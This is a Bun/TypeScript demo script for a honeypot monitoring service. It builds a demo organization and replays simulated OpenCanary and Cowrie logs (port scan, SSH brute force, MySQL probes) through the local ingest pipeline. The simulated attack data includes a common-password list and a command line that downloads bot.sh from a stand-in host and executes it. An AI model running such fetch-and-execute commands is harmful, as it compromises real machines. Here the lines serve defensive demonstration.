import { parseArgs } from "node:util"
import { BunContext } from "@effect/platform-bun"
import { Cause, ConfigError, Data, Effect, Exit, Layer, Logger, LogLevel, Option } from "effect"
import { ApiKeyAdmin } from "./admin/ApiKeyAdmin.ts"
import { asOperator } from "./admin/actor.ts"
import { IncidentAdmin } from "./admin/IncidentAdmin.ts"
import { AdminServicesLive } from "./admin/layer.ts"
import { OrgAdmin } from "./admin/OrgAdmin.ts"
import { SensorAdmin } from "./admin/SensorAdmin.ts"
import { UserAdmin } from "./admin/UserAdmin.ts"
import { AlertDispatcherLive } from "./alerts/Dispatcher.ts"
import { CowrieSessionsRepo } from "./ingest/CowrieSessionsRepo.ts"
import { Ingestor } from "./ingest/Ingestor.ts"
import { OrgKeys } from "./ingest/OrgKeys.ts"
import { SensorAuth } from "./ingest/SensorAuth.ts"
import { IngestServerLive } from "./ingest/server.ts"
import { AppConfig, AppConfigLive, formatConfigError } from "./platform/config.ts"
import { DatabaseLive } from "./platform/db/client.ts"
import { MigrationsLive } from "./platform/db/migrate.ts"
import { Keys } from "./platform/keys.ts"
import { Lifecycle } from "./platform/Lifecycle.ts"
import { CliLoggingLive } from "./platform/logging.ts"
import { ChannelSender } from "./platform/outbound/ChannelSender.ts"
import { ChannelsRepo } from "./repos/ChannelsRepo.ts"
import { DeliveriesRepo } from "./repos/DeliveriesRepo.ts"
import { ReposLive } from "./repos/layers.ts"

/**
 * `bun run demo`, so a new user sees real incidents in minutes: a demo organization, sensor and key, and an attack sent
 * through the real ingestion pipeline: the demo starts the ingest listener in this process (127.0.0.1, a free port, so
 * it works with a server running or alone) and posts honeypot log lines to it with the sensor's token, as OpenCanary
 * and Cowrie would.
 *
 * The story, on one decoy (fin-db-01):
 * - about two hours ago 203.0.113.66 port-scans it (OpenCanary), brute-forces SSH with a few dozen passwords,
 *   logs in, runs commands and downloads a tool (Cowrie); its incident is created, then escalated twice;
 * - a little later 198.51.100.14 tries to log in to MySQL (OpenCanary); an analyst closes that incident now
 *   (the same operation as `bun run admin incident close`);
 * - right after the close, 198.51.100.14 comes back, and its incident is re-opened.
 */
const PASSWORDS = [
  "123456",
  "password",
  "admin",
  "root",
  "toor",
  "qwerty",
  "letmein",
  "changeme",
  "12345678",
  "raspberry",
  "ubuntu",
  "test",
  "guest",
  "default",
  "P@ssw0rd",
  "welcome",
  "111111",
  "abc123",
  "dragon",
  "master",
  "monkey",
  "shadow",
  "sunshine",
  "trustno1",
  "iloveyou",
  "oracle",
  "postgres",
  "hadoop",
  "support",
  "alpine",
]

const COMMANDS = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "cd /tmp; wget http://198.51.100.23/bot.sh -O .x",
  "chmod +x .x; ./.x",
]

const ATTACKER = "203.0.113.66"
const RETURNING = "198.51.100.14"
const DECOY = "10.20.0.15"
const NODE = "fin-db-01"

/** Webhook deliveries of the demo are sent by this process's dispatcher (or a running server's) within this. */
const DELIVERY_WAIT_MS = 30_000

class DemoError extends Data.TaggedError("DemoError")<{ readonly message: string }> {}

/** OpenCanary's `utc_time`: `2026-11-21 15:57:42.053123`. */
const canaryTime = (ms: number) => new Date(ms).toISOString().replace("T", " ").replace("Z", "000")
/** Cowrie's `timestamp`: `2026-11-21T15:57:42.053123Z`. */
const cowrieTime = (ms: number) => new Date(ms).toISOString().replace("Z", "000Z")

/** An OpenCanary log line (opencanary/logger.py) from `src` at `ms`. */
const canaryLine = (
  ms: number,
  src: string,
  srcPort: number,
  dstPort: number,
  logtype: number,
  logdata: Record<string, unknown>,
) => ({
  dst_host: DECOY,
  dst_port: dstPort,
  local_time: canaryTime(ms),
  local_time_adjusted: canaryTime(ms),
  logdata,
  logtype,
  node_id: NODE,
  src_host: src,
  src_port: srcPort,
  utc_time: canaryTime(ms),
})

/** A SYN to `port` logged by OpenCanary's portscan module (LOG_PORT_SYN, 5001). */
const synLine = (ms: number, src: string, srcPort: number, port: number) =>
  canaryLine(ms, src, srcPort, port, 5001, {
    ID: String(10_000 + port),
    LEN: "44",
    PROTO: "TCP",
    SYN: "",
    TTL: "48",
    WINDOW: "1024",
  })

/** A MySQL login attempt (LOG_MYSQL_LOGIN_ATTEMPT, 8001); OpenCanary logs a null PASSWORD for an empty one. */
const mysqlLine = (ms: number, src: string, srcPort: number, username: string, password: string | null) =>
  canaryLine(ms, src, srcPort, 3306, 8001, { USERNAME: username, PASSWORD: password })

/**
 * One Cowrie session's log lines: only `cowrie.session.connect` names the ports and protocol (as Cowrie writes
 * them), so it is always sent first, in the same request as or one before the session's other lines.
 */
const cowrieSession = (session: string, src: string, srcPort: number) => {
  const line = (ms: number, eventid: string, message: string, extra: Record<string, unknown> = {}) => ({
    eventid,
    message,
    sensor: NODE,
    session,
    src_ip: src,
    timestamp: cowrieTime(ms),
    ...extra,
  })
  return {
    connect: (ms: number) =>
      line(ms, "cowrie.session.connect", `New connection: ${src}:${srcPort} (${DECOY}:22) [session: ${session}]`, {
        src_port: srcPort,
        dst_ip: DECOY,
        dst_port: 22,
        protocol: "ssh",
      }),
    loginFailed: (ms: number, username: string, password: string) =>
      line(ms, "cowrie.login.failed", `login attempt [${username}/${password}] failed`, { username, password }),
    loginSuccess: (ms: number, username: string, password: string) =>
      line(ms, "cowrie.login.success", `login attempt [${username}/${password}] succeeded`, { username, password }),
    command: (ms: number, input: string) => line(ms, "cowrie.command.input", `CMD: ${input}`, { input }),
    download: (ms: number, url: string, shasum: string) =>
      line(
        ms,
        "cowrie.session.file_download",
        `Downloaded URL (${url}) with SHA-256 ${shasum} to var/lib/cowrie/downloads/${shasum}`,
        {
          url,
          shasum,
          outfile: `var/lib/cowrie/downloads/${shasum}`,
        },
      ),
  }
}

interface IngestAnswer {
  readonly accepted: number
  readonly rejected: number
  readonly results: ReadonlyArray<{ status: string; incidentId?: string; reason?: string }>
}

/** A port on 127.0.0.1 that was free a moment ago. */
const freePort = () => {
  const probe = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: () => new Response() })
  const port = probe.port ?? 0
  probe.stop(true)
  return port
}

/**
 * The real ingest listener (the server's IngestServerLive: sensor-token auth, body parsing, the honeypot mappers,
 * the Ingestor), in this process on 127.0.0.1 and a free port; closed with the demo's scope. Another process may
 * take the port between the probe and the bind: then another port is tried.
 */
const startIngestListener = Effect.gen(function* () {
  const config = yield* AppConfig
  // The demo has no readiness to report, and must not take over the process's SIGINT.
  const lifecycle = Layer.succeed(
    Lifecycle,
    Lifecycle.make({ draining: () => false, listening: () => Effect.void, serving: () => true }),
  )
  const attempt = Effect.suspend(() => {
    const port = freePort()
    const settings = Layer.succeed(AppConfig, { ...config, host: "127.0.0.1", ingestPort: port })
    return Layer.build(IngestServerLive.pipe(Layer.provide(Layer.merge(settings, lifecycle)))).pipe(
      Effect.catchAllDefect((defect) => new DemoError({ message: `ingest listener on port ${port}: ${defect}` })),
      Effect.as(`http://127.0.0.1:${port}`),
    )
  })
  return yield* Effect.retry(attempt, { times: 4 })
})

const program = (existingOrg: string | undefined) =>
  Effect.gen(function* () {
    const orgs = yield* OrgAdmin
    const config = yield* AppConfig
    const channelRepo = yield* ChannelsRepo
    const deliveryRepo = yield* DeliveriesRepo
    // --org: an existing organization, e.g. one with a webhook channel pointed at examples/receiver.ts.
    // Each run makes its own "Demo Corp" (and, with --org, its own sensor): the names repeat on purpose.
    const org =
      existingOrg === undefined
        ? yield* orgs.create("Demo Corp", { allowDuplicate: true })
        : yield* orgs.require(existingOrg)
    const sensor = yield* (yield* SensorAdmin).create(
      org.id,
      { name: NODE, profile: "linux-database-server" },
      { allowDuplicateName: true },
    )
    const key = yield* (yield* ApiKeyAdmin).create(org.id, {
      name: "demo",
      scopes: "incidents:read,events:read",
      expires: undefined,
    })
    const ingestUrl = yield* startIngestListener

    let sent = 0
    /** Posts NDJSON lines as the sensor; every line must be accepted. */
    const post = (route: "opencanary" | "cowrie", lines: ReadonlyArray<unknown>) =>
      Effect.gen(function* () {
        const response = yield* Effect.tryPromise({
          try: () =>
            fetch(`${ingestUrl}/ingest/v1/${route}`, {
              method: "POST",
              headers: { authorization: `Bearer ${sensor.token}`, "content-type": "application/x-ndjson" },
              body: lines.map((line) => JSON.stringify(line)).join("\n"),
            }).then(async (r) => ({ status: r.status, text: await r.text() })),
          catch: (e) => new DemoError({ message: `ingest request failed: ${e}` }),
        })
        if (response.status !== 200) {
          return yield* new DemoError({ message: `ingest answered ${response.status}: ${response.text}` })
        }
        const answer = JSON.parse(response.text) as IngestAnswer
        if (answer.accepted !== lines.length) {
          const reasons = answer.results.filter((r) => r.status !== "accepted").map((r) => r.reason ?? r.status)
          return yield* new DemoError({ message: `ingest did not accept every ${route} line: ${reasons.join("; ")}` })
        }
        sent += answer.accepted
        return answer
      })

    // The first wave, two hours ago. Each phase is its own request (a sensor ships its log in batches), so the
    // incident is created, then escalated as the attack gets worse.
    const start = Date.now() - 2 * 60 * 60_000
    const second = 1000
    const scanPorts = [21, 22, 23, 80, 443, 445, 1433, 3306, 3389, 5432, 6379, 8080]
    yield* post(
      "opencanary",
      scanPorts.map((port, i) => synLine(start + i * 150, ATTACKER, 61_000, port)),
    )
    const ssh = cowrieSession("9f3c1a2b7d4e", ATTACKER, 52_814)
    const sshStart = start + 4 * 60 * second
    yield* post("cowrie", [
      ssh.connect(sshStart),
      ...PASSWORDS.map((password, i) =>
        ssh.loginFailed(sshStart + (i + 1) * 3 * second, i % 3 === 0 ? "admin" : "root", password),
      ),
    ])
    const shellStart = sshStart + (PASSWORDS.length + 2) * 3 * second
    const tool = "http://198.51.100.23/bot.sh"
    yield* post("cowrie", [
      ssh.loginSuccess(shellStart, "root", "Winter2026!"),
      ...COMMANDS.map((input, i) => ssh.command(shellStart + (i + 1) * 9 * second, input)),
      ssh.download(shellStart + 30 * second, tool, "3f8a6c0e9b2d47f1a5c8e0d3b6f9a2c5e8d1b4f7a0c3e6d9b2f5a8c1e4d7b0a3"),
    ])

    // The second address, half an hour into the first wave: an analyst looked at it and closed it just now.
    const probeAt = start + 31 * 60 * second
    const firstVisit = yield* post("opencanary", [
      synLine(probeAt, RETURNING, 44_120, 3306),
      mysqlLine(probeAt + 2 * second, RETURNING, 44_122, "root", null),
      mysqlLine(probeAt + 4 * second, RETURNING, 44_124, "sa", null),
    ])
    const returningIncident = firstVisit.results[0]?.incidentId
    if (returningIncident === undefined) return yield* new DemoError({ message: "no incident for the second address" })
    const closed = yield* (yield* IncidentAdmin).close(returningIncident, { reason: "resolved" })
    // It comes back after the close (the re-opening activity is dated after resolvedAt).
    const closedAt = Date.parse(closed.resolvedAt)
    while (Date.now() <= closedAt) yield* Effect.sleep("5 millis")
    const back = Date.now()
    yield* post("opencanary", [mysqlLine(back, RETURNING, 44_310, "root", "mysql")])

    // Created, escalated and re-opened incidents went to the organization's channels through the outbox.
    const channels = (yield* channelRepo.listChannels(org.id)).filter((c) => c.enabled).length
    let webhookLine = ""
    if (channels > 0) {
      const deadline = Date.now() + DELIVERY_WAIT_MS
      let counts = yield* deliveryRepo.countByStatus(org.id)
      while ((counts.pending ?? 0) + (counts.failed ?? 0) > 0 && Date.now() < deadline) {
        yield* Effect.sleep("200 millis")
        counts = yield* deliveryRepo.countByStatus(org.id)
      }
      webhookLine = `\nWebhooks to ${channels} channel(s): ${counts.succeeded ?? 0} delivered, ${(counts.pending ?? 0) + (counts.failed ?? 0)} still retrying, ${counts.dead ?? 0} dead (see: bun run admin webhook deliveries <channel-id>).`
    }

    // An admin user of the demo organization, with the one-time link to set a password in the console
    // (the service never picks one).
    const consoleUser = yield* (yield* UserAdmin).create({
      orgId: org.id,
      email: `admin+${org.id.slice(-8).toLowerCase()}@demo.example`,
      role: "admin",
    })
    const base = config.baseUrl
    console.log(`Demo organization ${org.id} with sensor ${sensor.id} and ${sent} events, sent as OpenCanary and Cowrie log lines:
  ${ATTACKER} scanned ${scanPorts.length} ports, tried ${PASSWORDS.length} SSH passwords, logged in, ran ${COMMANDS.length} commands
  ${RETURNING} tried MySQL; its incident ${returningIncident} was closed and re-opened when it came back

API key (shown only now):
  ${key.key}

Try:
  curl -H "Authorization: Bearer ${key.key}" ${base}/v1/incidents
  curl -H "Authorization: Bearer ${key.key}" "${base}/v1/events?sourceIp=${ATTACKER}&limit=5"

Web console (${config.appUrl}, started by bun run start): set the password of ${consoleUser.email}
with this one-time link (valid 24 h), then sign in:
  ${consoleUser.link}
${webhookLine}`)
  })

const DemoLive = Layer.mergeAll(Ingestor.Default, SensorAuth.Default, AlertDispatcherLive).pipe(
  // The ingest listener the demo starts needs the same keys as its Ingestor, and the Cowrie sessions.
  Layer.provideMerge(Layer.merge(OrgKeys.Default, CowrieSessionsRepo.Default)),
  // Pending migrations run first: the dispatcher claims deliveries as soon as it starts.
  Layer.provide(MigrationsLive),
  Layer.provideMerge(AdminServicesLive),
  Layer.provideMerge(Layer.mergeAll(ReposLive, ChannelSender.Default)),
  Layer.provideMerge(DatabaseLive),
  Layer.provideMerge(Keys.Default),
  Layer.provideMerge(AppConfigLive),
)

if (import.meta.main) {
  const exit = await Effect.runPromiseExit(
    program(parseArgs({ args: process.argv.slice(2), options: { org: { type: "string" } } }).values.org).pipe(
      // The demo sets up its organization as the operator would at the admin CLI.
      asOperator,
      Effect.provide(DemoLive),
      Effect.provide(BunContext.layer),
      Effect.provide(CliLoggingLive),
      Logger.withMinimumLogLevel(LogLevel.Warning),
      Effect.scoped,
    ),
  )
  if (Exit.isFailure(exit)) {
    // A bad setting: the same one line as the server and the admin tool give, naming the variable.
    const failure = Option.getOrUndefined(Cause.failureOption(exit.cause))
    console.error(
      ConfigError.isConfigError(failure) ? formatConfigError(failure) : `demo failed: ${Cause.pretty(exit.cause)}`,
    )
    process.exit(1)
  }
  process.exit(0)
}
